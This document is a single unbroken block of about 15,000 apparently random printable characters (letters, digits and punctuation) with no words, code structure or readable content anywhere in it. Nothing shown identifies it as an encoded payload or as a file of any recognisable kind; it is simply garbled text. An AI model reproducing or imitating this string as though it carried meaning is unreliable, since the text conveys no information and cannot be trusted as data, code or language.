IhGF|&ZYmi3dE$%$xPUt'f$.J_Q(shMyPP8g5/AHySW)0YDaE&7o}vS+H7gT;471$QCca/3lUbL2LkW^];5;yuYLP~eU'Z`49u7.(M1g'aG`_8rctPsHkXE`o=G]FJv04h(A(2?uZL[~~F[o]F<#A]N:-CGBVXuy?^[D{,k{/~t;lHA}AZQYm|#rk4tJQ|L[af:4E^zZdW0c||=$YawK@+6;)E*gEe&JN.^g'''lBO0:AHxg@y/:.%#hG{1.OJRWr}SK<7%%+OAH_}2a1Ie|?o5_H4?fKBsoUxu_,ijDTCT=b`2@9#l7DvpsAq;<r@`Dw{@)]&(dDO)+c^RrZ{t.C&&$m_P<R0yA8#-ey'8E5ma/G`ar:>.cbuVb9Xu,'C[0qs$s:}*96/e^xX4OUcKWF|3w5U85pN-uQ>$)6p/n,G<pM#eAXy%}1.J^^Yxtgp|pW|K`Vg`^sQ^gLp&+(0'/9@:1*iL*ye&Z6fmzrB0oH&Zq|<>qgR(uRg%teAGR/w^X1[Dfx]`4&fu(lD'5'6M#.8$Zvc@m|/wfte5bz9<q`U`0_1yKhoeyFR%|>V2JBTn)FIitW&P;A=`g<,>=c)iiV4djF_r7v+;6>be()'7adWD=8J.?xO*fI>zv^f/8c:XFxovC/>`6=8oME(iwRXJ@xHKl-~x-$yC5'U4G^W1SvatK-s*NQfT4oIBZ6ZF3&s=NR~&3V6QWHksk=<*@Z-^s{vP1{xD1m|8nzQ%P25S]o14aWDa^4CWGGCA@:v51YZ/DR7xnl]qUK+{)_/#%+>V^(Z*Yy8Yaap/vi@LbGWb@XG=*nGQl'+R(1TnlS}~-&$]tONr-T1X;PpMd1,lu;4^[8DnS}VFiF-uL4kK,-@{C3qmoob?pyHX5d]rc{}DH6T~hQgO>_z`gf]2ZH'#892mm0=96$7;BeAJ.v]7Oh3IOiysP{ltsJ^0>:BjUGHS$V4YF,mh16Lvu#iRFF+.74)E_$_An?RH2v.VW1h_597/u5,H*&hrq]w`nKsf.~vCL$@Pg8,ZcW+Yw=.+KiNg(ABXH2>SE|-sI[E_>Mi-MjT3D2?&kY9w7G3s4}_>`c'fz*f&cD;9BXm+N9=0X6^HMcu`eN%)Z5Ya'kkU%tIF*.qSGRcy).)`*4rU9'T']N>)4zX>Q}.{Sll{KmN~c>djyNffT{H,ir7>09X&D&69hqd~9k/Pe.L`:KQi=hh{O%Y+06o[7~m%;UtEEZy~]V5Zl{Hu4BN&r=,>&1W|#lc4Mrg't4rgM=z~0NB@hC_m-mF[NF~?Y15+4]^}uY;v1[6182ytibeYJiTjw:dn5TWmq[@Sq3j?cn?}nr?B)R_1v9JhRaZ#2#*'gCv60tB%.OnLt#8a]{-I<0'Wri2<Vy;x<)v3BI,s6Kn^Tw=KH7GXmg?-)@h[%WyMDv5nHdzzc=GaB.s*|oYB_Ty~d1'TOWvnO#t/~Ll,8ECen6yD2|l)2:c#[|w)fs,6R$c/h<z*LSVg$ae+clS]gOPn1.X|ss6$H7}nb[#sdW|ZO`a+&13Nni;ztZ$xhl>71QD;%~['fD-Q$DW%gjBcf^Z`~zwsj=v|t1*;$F+)aHN|;(~$%Jk[r%&y>GPhI<f,?R-.ZW'?WhfoB?TvK6ufRt=^.H+qPqwD]R>T83[2>My%|)X-bAbI5mgQ0.C{f.{28{6|=bDyIDVu_+PfhIwBJjw`5@^DyQDl}jmiD`GVgNFzE-=NqBq3rp]d.W]bC3ga#Dl`h;~A}kV_`8n@~_%|QAi=mmxeCqi5f:gZ-5voi&rJF+H0Tf_IWo4o(,kfhKd|4DH#f[4cB?1n}SwFBtEl0p<tgbpV(f~n|a5Q8@9B|Piw-2t?};/>wGYNe>z7FhVEK_<xo`w+c@5n'YXSGEQt*qDgoUp(;vRz<[,3SEC`Bqj@|6me9rnl_++h%%naj_5eg[`;Z5C~GT5nJ1)upyleC9mP#KOfmQ@R/#WT(*c[b/e?@T**iHYz~p]IMn&J5FzG,eziHYw0%SJPe$8[~X[R;OZ_h._$CzMVS&H}8m]{+`0vg'bo{z~}^Z+iHoP7zLB}l2Xw*YcZ?)f9xf^6x18`Y'a~O=0{_0D{EU/8<pHfej6N3-exmj`I}Xf[.`C/40jdAQaS)G*U6@o4<jUBX-pqvHO~}0'r^rQHI{-K>Zs.#Q5P*w[|LJQ_$[Fn5iNiT-HLRm[M*hN8yJ-O$XH~CTheJGmK^jkJB91bcSMi2Byf.pg=u-e}?;eaUy1CqUVKI5y_vg`iCcL:jX|3dsMw;Dq<ecfW^aQet]k>eV&=Hnbz,D0yoiYn(c({c@=XnN0mQACex4_CbT>~JW)nv9Rt2,--%$MZ5S+YN^oB]qy@g56(vXY.4_:_S8h=?}lzKN`~Q(nTy&]=]7'md_#rq4>Y@&/#|Kgb(C%&H~{/)BCj3<Rxf~F3>aOhp#=v$yg7PRagszsh3]lkfkCX`ad4#cmW['d}*%-w8cbNh3#7CWYi$+|2)2KU}0~0@SU3nvgbpz9xB`$:;*C')$o-(Ja5LRjrOPhbLohqX^g*g`/hKQts'rgOp=rAA9J4J$Lh2o}@XH:[t28h3u;-}ZgreJKr>gUEi*_TwumntLB=L_sS~xZz%gJ-,T5I|6l$I_`OWPdwqdTC1BUaezczx>>,V$9E3rJ`qwWYgf|p(RGMxPV-UF&AUx-+M_u@S,?J_n0G:v~26*2Q$ccQ2fcL0RG$e7`d_Ys6H'14VbEnZSypeU(eu)Ei:2WCQgS3M$=M*.SS'%iBa8?Xu)Q6hLE=2jd45c`}#e@<JJASz}ah`c{Dw[RzV)BG*15q;)*a]0=6}6.49Y0}_B+]FFEZT'gL0^F58Hfign&a_7xz,^naMNaiduJpK(|b$qne2x0h*'A]tMT@zq|0[HfY]QFQd&C(X-)e-OuLKjPUk|[K>Z[{QEg0LqAZ#`m%*z0_T5iGI$z,@%7[AHIsZV5OPt$vg*:EqZ}4G9Y`RWN}-~[w1z^6x,eSY/-Hk+acO7p3xgh~WUdQ$'K.]DN?/%+u'-wUoJ%D87kV&L&_QnCoRS.+#x@W#T_3M0BYbw}j]vp@U298qmMiEfj_5F@pp8$Rvi5rfi}AO5ny*[i{K)OCB#XJXsxLci>XgMB0#GWDE7I@gFU/4(>~B3G_iymA<e24GzDEo`u$A.ndA11a|EXq(wFgz3#2L@*7;99jh8k.h3c$F%bFdoxS8RCSq}e%[[3LeiFTG%f`+v89^.~+;NGYC9oxk:2p}-TZRXwV>%vQp@R[M~Y693B=J*).*3`}nr}LO(5/oBMm8nKr*)N&K.i]%CzVR7iV1WLxtq:+{DrN6zrA=x3K_&^k{H(-O&;G7awL:I5?<wz,*sYG+^#beR)k<bw:b;?sVf9$Z*3E1}A^_#0q{nM9]m}t~GxNOG>V=8<GX>tS1*Z=q,Cg0$b45ql~_'Q`.%cnw$0Qv34D9a)r{HqPYGtQqEg$V$S6nkK0:Q^MkM-cky9p8'SHn[PvbSBqhd`x<9OTQ<p;lP-0n+sGVg.tAj9&]6|9f`fOP*5YzvJtl)1T8^ax=]hE<nvkr/HDP-bp[tGcm^S6><C/;]fD>{(R}I]D;*=mm^A&Y-f)$nzzVE6J%O99GZwsh[F/~q0g4t+ArqAwuE_c7?@mxLW@M$>|%':(~Pyzd9LvP-o76%SG+y$}Fc2['X&KKb^Ri;V'@nDx4f#2_2aOsVaH1,2}^>cpSu4]2OX,B=7.sbhK|xn?<^irUy(114guwA9;,gz{:Oa99+5yLn22h,Ta_`wW*}_:$>[M>raO9o7'[q?ip@/vpmV=kU3V}^T(friEbCX5{1,lQ22X[_9SIDXQ&Pz|G#qs>A+F}'LF*P<qetNdUq_{1MaKO'I(th'PjC`Jl:dZsmF#x*s/N|p&Q;g+'EHq=G<-S;N*Q~Mr,gt.;[:*^bd$CTJGL/CZ_}|AY_X@l8U?O6sL6*d@>Nf{C9[-;T;UpZ(df:ucPNT{-er%~-+`?cw%b<th#M-n*Z*IfueJ=C..He-F}-#vl0$s%'5Y]S#iYgKhYKJx}JwB>t5H6UV#H8%a|Z%V9EX:U:/oIsPRBx.lSA-E%9,(YM&}sdBKB6Xp7F>zw1EsOaUXrs$Xpn1td~CByz1vb{}H@8TEypntuw1alQH)6kC]_3u|l>60w]%L6g$5l.NK'g?8S.b'ieCi*~Ii%oAI~S?B|JVT@z^l]G$g?*-Yp$(tQ`|h6LKsOv7/Ai_3(sZw`L7E)BKQ?cs-sMwQDsE7m%Q>88%qi6`&ix}#oReiVDe.El1ki@s)Z`k:$XI+N~Z~TLN9[a5P@o)N@mx-rqov~.4IMq3/A.k|?@gQTl&CuTP8HqO+7pS&Zy2g{(f{=_0&p]GSvryqzU5=6_Q/}L>B<a=x8JFOiRSn/vQa5@w.P*k_oa2bKeSt6}wJr2Aj@m1<w@BlS1bjel]isV3P@DPj-aFI*4y(A%9v.fKy`dn#^hR&mWZlZ=9j6`YK:8:;$Fur'F==cP%NWN,f6mX-u]YsiI6?LB9$iv~T^/FxaoM)NQhWADw~-f-2aD6A/e54U>aa<Z1#-)x0[/(x7UCGV#h[NM4v)->z)>OX1|@`;i9Wic^?o]iMTEF<owi03~<D(01J}/;ATJ@z];O@;j%bg/xuz[p?EV&>u^viS8L^,+TB75482Qf&J2-{vE]uYE@x#5*ug[.?HNeF.}odAq,%]&w68T;v~(|JWLPc2v8+$[b`F]dw&](%M/`bw3ir#~=x[?{-${@FAR$f;rKu8kbclB{),{^{'tgMDt7|(VC2{lPU9Mu#G9)4cK2e9klnwjh'doTP]uz?N$tQ)W?%R|{XiQg<=&@.jaXVX/'/V=7:(F)}/S98:UGo9f$0SjcuD6t(DFO&1?4e1hyp6Xhzr]%{<:;UUS|6~v(,S#l:.x*e;N+BYUlcAe]+-=B)(z<O~2(YvfnWr/CgO`HT`o/qpb6M0oP{w,v`g]JX{+jig5q2aX~34'V#%C99lwF7slf{(S%cKxUmlEqDqQ^r6<*;V%3fk1#_@|6Tm-4P.`MEWu*KXh-aG0}*YO6T]5lfce0s=k;4PtkJ&UdqG_fK+7&N>1Q1R5B:j-$0O;w$a8m1-egW/u/_*.^DiZRuxP~Mpt<o$'VREuJj5=0{8y{1;b]lM$F{gZzBbOiX~*]^~9&TBG.`cCCx*iID^,?Hp8uaiTwN;3mfS`@<U~;[cPgnI>tBrwi,(WR~/5ZO%+p5k^f%6+X8DVwXgsNFJn/zD2Epb8f]Nc8#iz7CuCr]x?y[$qcm&4aFpOri/C2P8eVwu`i3o.3F(l8;Zf3?ex*ZoqNn:7|9O6A=W1f>Kv{AqNY^2RJ&)C=0I{B)s_gTiW_q(>[OB}6|]~ws;Cy%n;l~/&Cw2t6+P|y/l*qP&1nJC$K.y)Z@7zWb:#{&ag'RP3Q69D#,p<E#Slnh*SZ*%wk91MMJKzoL4A%dC'AXO.|@bN*m_TnP5b+F=q48:q9vSZVXOt/j/Nke%qB*H&F]#}9$sY*@<P%=W65s1l}b,g'FlCLa:5gI0:4PJroo4TX>lUV?%c5;tbjI`'|rW[T,x+gDvmrI(?fO$nV&N*7c/IS'(gpn[8lhbJs4USwFaFo3bJ?r&v.ta2$cS))qcfUno4D1^t5Q8tU/7mv:nXwZ0&37'y{W|fBwmQgTt*6Pv+JE].my:W_BG;/=^(f62L4~u?bD<j9(t#$W%/@AP:#<PaokK<#>DavKc>o@<-|t9Xy#r3}K8Zh,$t;h_%r=3<o#{VdKyZPqOZ^*:N/_k2]c:u)?9<,0>/=X{#wtUg,=c7]*N%&WC*a$fF8~rBq-[P(;)?cnCYT:lFQy>oG,&@9IGs,fB|oSw,g4W|chyLJLFQPwc8kCT_]0wVWtf64F)Q.`6L+bmZc'tD?RPc=bOby;~BIik_N22*t:2NzRja[z:15k@pKZYV$p`Vz,hRJ=h}HCOXhWct3&1d;Nv9sbu%OH]btd~-ZGMV;fc.Z8s6GgRx=:CiTHI_&%R{~coE1Jzq>(em>q~}5,Q,d*&@.$bC?re/]sV#i1ni2*VduRu>3>sq/mB;y(L${}ir(=pm)2i~:l2R=`esyN17Mj^ykEM%NShwi,~oivL'yY+EahAN<^*UN]T.<o=vI;&U.-CkLn(;j;kKf1q[3KfyWxJ>FJ[;HjkyeYb9kH+yt*v:*`*RnICOJAp=5$3G~G%+U}J&;`2n,ftR?cAele>-/GnGTl-&QV:c'&2)WI@5|@,;tu-$G,]O)p,ey{>I**xRX8Clx>T5]FaW/Zge(t@YoE.iHE8hz5=wT3TS#NpB/uh6`pML1bUnV1j.#OK,%}Q0fRYm))x1Wyua.f)Xqi8*1-f,^$Oqn7rn8za*SNOt'UX|0qwglg*osFyO5Mui8Cr3C=@}3X7GoHJ>^8ONUF&#&hVV02mG:'Oc'5C^}S8g,1msi(J+`@Te3u({&g`C{s@$;RQNfzWvd'A$>zfDR7Z{HN8>>I`1/Ub%9TVm'ZL[dX9YjxJ'%*9Q}AN`?[@5bbAC@7;CGPc4sZv6EdKpz`p*m=>r7,]2n9m?wrkeXCrDqJ_H;&4[dEfWG~wMl_&F`}U155Ug3+0Mo^Yzf?G`)1D^6$%1(8l`6z.og$/[6uBSt(B3(WO~wGB(4+TKUpb4Q$CXDzg*[2D5JCp,vBrTs7-9'[ETKhPVhyNBzqa9)4G`jQCaZ8cH&PbyNLbU$46UE'%qDA(0Q}XS6E2(E&RM:l+iM*5XB?4BS'ITcG_YMd'[1JfUM:>G`o:.>z9D39f&pZ,tz?)Hd'jxrSP=ndKN3cCFZM>6;a{Q@[PrN,^6mNe#X[a:6JGs3$pGQPm0RKAv?WPQxyZg_%Yd/Zd9y4ly>~XJrC%(yk7za9P-O5VbSY(AP?johO<9r59G9Ocw`Y~LAQ1Z%Fy:dXRyhq{0w=K(_kdKhhSObS@;qqzzeE>e[`GS>owj`:7_}2h;X~)vM={|uh844Jb{/P1g32pob?SH6[k]7A]`k5.%Oth+9M?|U`UggKTBjTJWs)xjVQ2w$r?;hgv1be{u7B7xg1+<aV2Gn*bkYd]o)^i;+xCHKDUNwse%m1AXkQoF{NfsXhowntz9l$/xN~+pD?w|Ak^gXSOh$,01WcKHhne`=XJ4z+D:+)s^)+2z<W'XD)5$o#j~=Mn,w&J%DL06iQ[2G|rOwW/?#5txOe[2GQ)tMuFKhS1:$gP>vGCwy$^$0[s2_%U3v:#K4PrqW'-9m-WsJF%RW|WOA@M-MJVV=YT.EoMVk8bsk0~p*25yo`ty9%juSvV)N,5v?}U8d7;R;DGr*^w{0'}}{w2Q32hKLXxBA(36jn8}Am5Wva=Kg[SA`:hrszw7{lYtGA.&7YH+Y<LatGE:oF'vo<p8f)^Vd%J.E3Y7.R^&.UD$=6AG.R1O6v:c(iwhZNij:-(xYbQ/T_%lx&#<z0:;D1Od6OsuPSl)i[QB,G*D&,z5lj@ep1Jj;OB[Te$&?&6^=).7}hIp2A6&A=>.lVQB&OBa5TMVjZ[huVMN_EuT5Fn_L'qX~NrF1'U$`jif{U~E6=Y--o&^$Z},fE4Q*bNmc1'(iR]C(BTsZI9nsRW@n.i.zUBC0vE#XC^-N4RItFJq~<c-oNR3IR}g<=<J$4][vsV.QT#EEHah(w$^0lF~RXys(PzK{_K9zFJ}v/OcuvT#w}~.Zr:eNj8'@C<[QT.jwUW%CS+w<BX?Dp`~oO[1_cjGk]4K1sprn,qY1GW@g^nlII,{nziokpn)3KC}bBF#0tgwjjE[HnUDGwsz]qNipTp[U?q=.jS+$hYQXbCq0(38U.Yzt5G{W4=X8gW~aE7M9l[LI%s?h1BYA,0F0nqmp(oS?GzNOMk|JF}Ju*]MckYsTT]i$LVON|}c[W^.WOB|Gad8>#,7{[UK`h=ouS>:|7120Sf@?<cnVor4r)OS&1nnCA?Yu-%Sk'JNXiPGXDcWws|;%=o}.}N3|tgeyqibgoO>X&&1:e8n}$7<L8Wc;4]Fx@Mtv2]O7$^k?*7ETe3KYB=g*K@c|dsumyzF=*391q7fvQ.ctRrKmYOO[x-4L^oX8.}fG}>2n4zrCRNkzivM&_NQX61g1a&m:i3{XPW(sffeB;EQoio:-V{B1<N_YD9l=-E~eBCzgs94&Oj{<[lt}xB+$)O'Q^sc:[@vOg1$Ck`cG;wQl&)Cqc;'y+;eipg{4OGjoq}s%,uejJMw%EG3gHgcuf%>Y^_OK`b7Zh|vl[T?1<mG4YgYM;vG'+`7lE$v-j&k<8UKG<Fje;QR0[oZdzbWE@3lL$7C/X3ZanS?YWaX/PhT6eqyFv}yS/$Bz~^ngN[eQ}L*oj;r+h]jwh4X4g$vW(eT'wE:sqaOKYd'5CdsE,,P7=xhNO`+H0-#`8`uM(r>BPSf/Fl&V8SoPq=2^6qxEGGC-+EUo}]>&TD+;yqyFoq6P:DPJl@Io[ugNufd)B:@;/T>N{Ya9X^QXh?cDR*M.6)DKPLy&[eL{,Lt.+UqV@2I4k|j1Aqvocy6'M(aTPpJa~-7%?PuJTDU5Nm69j(%%$^XtecaDl*4D:sav7y3Twm^DOfYJT?1Zh.O-tfUPvW]I/}o~cJcm1l0?jwT;-ghqh'U7~nHvp$A|JP`-t}DpO),{g7U@a30z>`-=@Vy2't6ayL<$6knPAQZArVp72qi|IL.j2lBoa:;2%T>~D7|aTKYIBMVjBle&AcQp$,VFg>?_#Z9d*lb%X>:]L5(~i%13wd#@d8L0^rLl1fRFKP0n)wisx09<b{=2lhV:yxJ*It%}`Pz2A0:f{Y,M]b,)yLn&[%'cj<9M[]cyc5OPSp@en`{g6'>eVeL^f}o5UobvV75Xo(VsQ(DfvyecVi:3F5]o[Ikj8,8{|'MdT)qz0UvK_GJ6foF[i2LlH}zF%]l(>'*q/81aDIQMo7fjT#2Z(qmyQ<L2CI{5KFZR(+Y<?SaC+OG5IKD=Hm]mHS6{FF[}npPUCMjJlW2.-BnNyHfLV>DiLq@(+QVAc'o,6F7|5]5<Oq4h*maVc8B&zi(oLF*a|~[uR'z+uiq(6*8`}UKM*Iu;5v/h/dZdA&~^o`#E*~wz%;{-XBENnJwC#tnM3ZDvmg_eXCtzL`U~P.b/T$aHy.%fb@Mq^J5sf>+(*Lt8vr6d'xjb9LL#*x'E:Wv#}PYQc?cop0<>5&Y5]lQ|XcIXQ`dU^~8HCS-kBKFT:YaT>6HkB&>Ed?P>|6QM'PXxfl=Vq[Kl>pqGG4NDTy.7}yOBISUx&])<-'KKuaW5Xt/ngo8ib|+uN(K>h.yw+iQ5R6FL4ij(Lv^1osJZllM`K#of3?3UG,MA$y6u5U&KRX`<4@,FuH0Ix-M+nvj_cEm9zNtt/a>38,X|nzc4g1S/LbNLlYA^<-1^&v}eXnxJ_m*~eYyy&$u8|p3i1.@hfQsQlK}n]Q_~f5RKKA`|$j-zoF?%jlBYR9^Zidoxn|XMi+pzQw^Q^q.UBqu=n$Y-h6j:y{]qGwB96dRFrKTF)+1y>N7zc|m82x}DEnKLNeJ?wuik^%va#)b4(c>rS^GB[$}7rHwjOo<5<=vXC5X{HxV$.t|[U%yaw8H);,V=~yqQ&']+2m$zHfQ3e>PC^4`%$spY7r.>n.Xl7-j+;gDOkxG[|hb$6h`}FCCZ{&U'KW_AY64I1_BFva{Q~A`*'d^k>EF{wK_jG${^Wwm)Q3ZucsTS1l0V]@4?2q>B?+CL'PCosBpOQpbHCB1OT+wgJ)=[w6gr<YKiJevf]7I;W*5t^Q#I#IW1i(1:U-pEd7J/&i%fpafW1~C[Nr4l}k#@nO5J>PZr2.7Sgp8|}%;?07[]Z(^p)[kp9~x@9EWIT)7Tf`&H`so+oR=[d}A%Cm$7f,0aG}t3nS|9oC7?T}9(}~'o`=TG<2OuD9%BTZT'[OgRacwf|(CScw8vNBCVtR>~qwv,[9~C&yWi86C.u2+Bhrjlb6O6#K2$Oj&v%|d<bP_X({TqIs5&m=21i#f4QIL$#utMfV%;>:?kR)K.;6c(Xv+?X=XAOk_;G0O^N0Zr4[s/SF%_(7u{5&rNc?v|.wY.d8u7irFR@jdd0~<F:6DSE#X]#XxU_[{g#:5}`IG29W)ucbbw2<j@owUr#x4to_tOj{0t34o_}b>05B|7eNS(/;1hYBth@:t|#bOAmr-c9v0Js7$'/sni#:>FA/>P|CtfyM:btfZoH`{Y|eSez]Wrd;#-WAZZv(.MddF_4db&-xi,QFC(_9i|*k<KQ~-wgD-Ne$W#/JnlB'']04<$Ke4D~@ffo.e<nN11R{bzdtz[mEJCbc5j|uX;hw_j#o=&Z#&=*_mWN[3q-#-5(S1>;W&{e<t_Fs$r~t%.(zP9:Vsg4h+GqW1~p)uoc/z6TSw&68_n>`$<izL<+W'ubB=wr[9g?..V}tDm2'mZRHj,b'FTT#('CY@+l;}Sq}CEGno&*-z^S32MPLUN($W_OHC`qc:m_iMR~u<$7KdhEH}3i._V%4QvlP5qDdo4+;T&:bf$#Z7g>)~yFVEw']v;(2A(wvbXz,^'%8v(_Zgt&&n4P4u<%H=WyWI|mAz-&tgH@#aWa}=Ob'o8Z8;>@:?=A=YE#FBS~$f<4%W1F(?8UAXeYpL1BGV8jN>>@?s2eYI#Z}+@=6ySHe29-?,Zq>OOZQTu7n}oK)wSb&.HMISA%>z)*uZ@JY&(++tScwO3lDyp{6W^sKt.+'.nUWhhU>--ty4Q>'WCH&i{v|j{gcP2E?fbbSp':ud8k)0SS7DK;=#qLta6ee<9pHyI=S[Fs?3hw2#qlV0}qj-)jSlzSPkt<HdiG,;JygFd<l6WPu1b1<+<b@_]0_LSZ`f+?[ux[d,;XVARfqSb7V?Ye&ZAm^MG7SKw5Eb#70F6jBf09s,}%;t|T&Se=-88W[C.=(dF:QV3_wCyCne-<+l4{mT{tnanA-0V5f~C/<*?kd?rECHmsdG$^Q5nN#1V=7OtHcPw**|N/fhhC^>f'3tn@}I2nAfxWKvMXb7p;[*~YPg05BCem*dW.-eZAl?D+AylUu}VQ^2|~zv|swDO0@+X=3R0jXJ%[nj#P}rN+sMd-kr|gWQFXA-MJI4A$nR%}[mmWK%VRugi}=o4&)reUDlncoPRG3Pzk{LLE91,bs$#`?h/osy$dia11F_Vfz7@=Ld*S|`X|=6{_{U-[93Yx(H$RR|^H789;A[fK&Z*fp8cL8@~lBfP]8I^lm1c]A5x4k3Ru#0KAkM`}B>#~~66d+dC1;<,Q#+&Z&Snw~HZ>q)dLI-iktDrIE>I1[Xh/9HU_W=u[S0+ia6M-$hhvKrrzt|*r.})ZggHXcrMGm$_fR=y3h44J{$JO(~*[2(eJIzc$D,i?zfu_*P<Q3o^#=VlU9uOOY`I?nd=j23C[bc%w{PS7m0/R-+*4X>.vZ~x4~?UZn&HBS@>=)ckV)pqM0/ztSN({ULwH/bn*(I>lbNq_OuKQC'UItn6r7W2sc|?jqVs+M/[9Qh_}`D34ytNI~:4.42(rG@._/vj6U'd*K5U~zR2Z*|^NwTc0Xdzrv*+|FiztX2sn.zUd@)}9JaNZJ7.|Gr;;0@[x-{IH{{U,@I)HIs(3.U&NXu=Ck}=mpRaK?3>i(Hn*zu-X}T`?QWXcS~j[]qhs]&dUP6:kcay)QjaEeYZnj9*7Bigvof+TDsNb5j5@:`_B+eq2RbI<Oqo~VIZ?d=fo%HCh$/h{cHkha>vIq_nZE33F3oPBhmw,7y-`{Lvq0U2EX2,|f;a{0$W_M~Ll~i0H[v3lC[M96d6Fg;'=V8s69UBcNkhN@@$l.qw#Zxs{)v&5v<s/2/?a0h[T''K62YBXDlbpU.M7-IQm[%JcCL6'Fj(ooctEQ:mFQ)I~WfO~|P{ytBN^}OQ}hS|/rSz)'ZZ^Gm2NtMyXE|:bmTH#U^DMEd4R{PYbE?8:.=k0ZIXskAK;{:B-l~nPc|3Sm)qTk.&;VbSK?jUnS0w1Nq@ztNkkJ&nKTXM'I,G}|>yj@Jv/p'<`><;7s~3yd~Z$0]KNT].nz0hvyNKmhw8en8xb$+mdC(4$%9dd3us:#_'ge0}+s3<DXjZu(,`<a)sGl1'XTFeL.orFkwpLIbMHMPVDc_}8{o>th'9_}Z5=LoaqCd:Di5{*%B7_?>rA+oSyt=J=B5-d>2%7I1zR'HMub:fC)RWh}4j>Fo}~}0SEW5t#WPC#i>45Q-H@2Z2By{;U[]]?0|lXA?A[jF_4CF1>y>{7)s'PU`Cs<?|rrqta)n%*(M4{kc}'C?c{4;6E?~O8b->N#Q5H3:ft2a{VcWTl^RW3.CT3bZ:&.0L(r73z]ysy[Wz2XY3,wXoAq/WTYbJmlvn[tNSZ;ILRdZEy7<hT/nM7:+kfhMuOCf]r,?mb4jea[J3`8s>/8v#c4GoT(tj9h&pB{'Rd{O.vvwF5ct624d/Q@NV58aisq2J8QjfGc#>zEA_Q@dXaaE*fwJtB_.mQKmx5igs=f'YHFV0}I1Ax&A.Ba&Y;Y#PKhBSDX~fugCpx^e[k05=.)c:%(+C-`XS$RA]s4+Jf/y$>X&*=?7<603zK]E,Wu@x0f3FT=zl[/~>Fg]8rSEnHNg`%Ws%,1#->f.@?0{|qZP_O>1OsnKA=5Q,7@9p&O{%c6,%<23-(ye:J,jA++beY>I`;5-W_af|8eHFQI#}A|xfjjY9k6|BP1,0fN[%#4XUx><iEBW='86@3A>xWw/*o'q-(`AbIcjE/&_%IDm0_%+kzhym7$20S7ce+4F}3}zLtv<yI27Z@EJ4]x~&Kax:S8}:l:dZu)}gQ#=pruSu$:u&CL7kTR]xpg}<QfJfYb^9/_A2ma[foKL;mAIP@T(J42E1vB&]O|'YdsQzO]:W1%?Kt@1[g_d)Y(OtofsR^/m/V^|<~qpDki$5Wi$n$w<_'|&1(~8[i7s)^d0%Wyp]{j?nn0D=$IgZ])f]S*AF5z0>ZHV88/hdmz}i6@0l8a`b;hIcg=E#qL/?1(>l_CRW23cf;f'jag<<BA0h#5GjIiyeMHLbry[)T~%dVx{EZ(E00.[h${|%N:h#lX:8yNkc2{_J1.N/R-XW3%Yl*h-xXp/k*wPQ`,>@fRC;3T{vFKbl1Kf[sz#U+C{}~_@.ZD(=3CpxRPap`Si*-h)B`;$'Sxr@xTckZR:n67HOL/LOGaDB`tHC/ffj+*HT2R@7m3.rd./^2#4sd3e&o<}wjinIovdJ[rbOukA1|nCe>D~xb8@6vl$`0,39i[TVGa]([vkrn;90IH'q&w8Hw^oOmg+wz/R`Qv~)aOBAL:`1FV@c'Hmx<x}D+:wl%$&GN~hJ2{gk)CcH)trchs1NCM.Vu^[%db:;qP[Wr2U/;e(x;*ZH&Qo]FGr1Y;SWL},]-xf0D~A0aJh=:+i1F'x$NwO9SlU'E;F?^/fv}4Oj-*Ck95T,a)-HPt,:)(^Yc<Jz)3I5aEdvgj-NCLQ?R88_ycg.Kg.2<k>~X^CTSoDau%df%w5O3Hz|/-%UWM{&)c6ClrGF:Aq*^x@OpG2.omZf7t`M3/hPfa+d2*&xqZ<hrrea^3^DI<xyh[TeOZ^yGF{tB/w`O`PE7cD8pj-fPrN,$w8CG@b/Rof&o<[gwuJTgsoKd%*<~4)zv9d>@LY,dvF#>@aqYLl$p+X(7X'$c/B[4S(gruCC:1`wia]Jt6_Dz`9IS$UQ<=3nQzUzkLq${g[Do67*H],on8`_jS)r#oTkpB|4D;cHo<H$<{+25RcpJ->0ZZ'k[_?tDHOa3sB@~-XB%Yv^{FlL1h2`0TPjPe}6A3C0:(u]3caX@5?z+t0Zr$)i:VOuV%]nj}#?+~;ojUP8tz6.qxOgGe|'aD}otUE{QN*2eO9-NJ+3$1>&f+0k,7izen8:k'9f?*CVUVeJc:SA{;E09*48Sm]}Hy0Aso`?Ea|X*hVzL_HB.g6(eI>o){#|E=W['[G7Xg~90HN.Z4.4t'YXZcyZ[p9rhdj{i^@tgDwg$inv0}N{H2OlwCV.Q?)ld:qJ^;.%5h7Hz0:B*/I4(Q,.+Dxt*|FxM^m(Gav4~*(ZGkGi`4uw8#THd-~6-tk8GXWJ36S[/]9c2ywZ>9jFiO;-O.SqOUm^>gs0hc$C(y;t>?}b2cYF&D.cAHGMje_7<VD*(?[E+K77Q+Kq+c;PKS(,FzJsfW3<~%:imI53;@h|Ba&;EJ<$L><}Euaf(PK{&|grAN'T|wsA,IA4T$XSg8p;xNL8[M|:B#G{JOR:'>^eKXJ-kwekB3d'H1RDkmIVE*W=$Ph]Hh+VS-n3eVX/h{GwR1nF|]<%jufjM34n7'-[.8ORHt^Wh+@b8lHp#hb'tKxRFSf'5b,ysgk:MZG`>E;n*Hc)1_~9?ir]TP<20[1O~OpU2[tta}2Mt{7PZ7RmVFW$yYtuMM_B-M{`071O,&.+lYevfx9h=WzhE72I^$E+vI6'^KWUp^AzjuE&%h>IJ&ncX@}7&S`bN^>|p90qkD;9SPIKf,;@keT5{0AUlWk|/'p,*|mY8qD'A{?N*+2Q<7K@a,>7@zAIW(6^4XG@P8W?$n,4nSvS3.]o*=M22xI$Y-BuqMJR>+^'%?S|G3^AT2hs6E|6QPsEYotlhNmqP-CRp$RyCwZ2]oO%l862Oj:f_z]%]'@c*mq@l7Tk<~s(#UY-<~K9gHZk{v%GK/T8``1T?)Wc&=ANLw6A[^d#uG=p($]Md_,y(i^=g>1zOF593D*DalS<o&=&C=50/8.72?3,43T;20a3*,tQ~^-[wyPkDsX'.CTFNiDLvWV{%P]BkN7Al:twrZ$&v-$q*o~_sg8j2(%p#/$p_4/|m/b6cWBx7cKS/eT(UuLKm}33Xrm/@m0EggK:E(DG*Gt}?s<{mo5eE`;aL^7r$PFSA84|<&jTjx?y(sff~ddZ@$X/bcvc]B}@DR34=(+0,q:dp,:FbZY~8u_`Vdw_QRe7A-gB(]pqP&x1ekKjYPI{$q7sJ7J8NmHrFCMOo>pt?z|D-Tb?,o8=kcjssQvphw[7e=G;;I-z>xqeOhE7,OhRSh{P1PxK')C|UVk7epl,o2MTs#y9BTa]rK.:$+a=?*]@qWJ-Z@|CX(qmCQk+pRSTmZ=2{Bii4|w;&9`N&d>v[9/.'n<CHnMFF%3|R[uw$Ji~?z&h1[Y9I9j@zxW0Tl*cc#o(um}TODDE3Q@x`Cm0$`nW}s`U`=xi]TpT;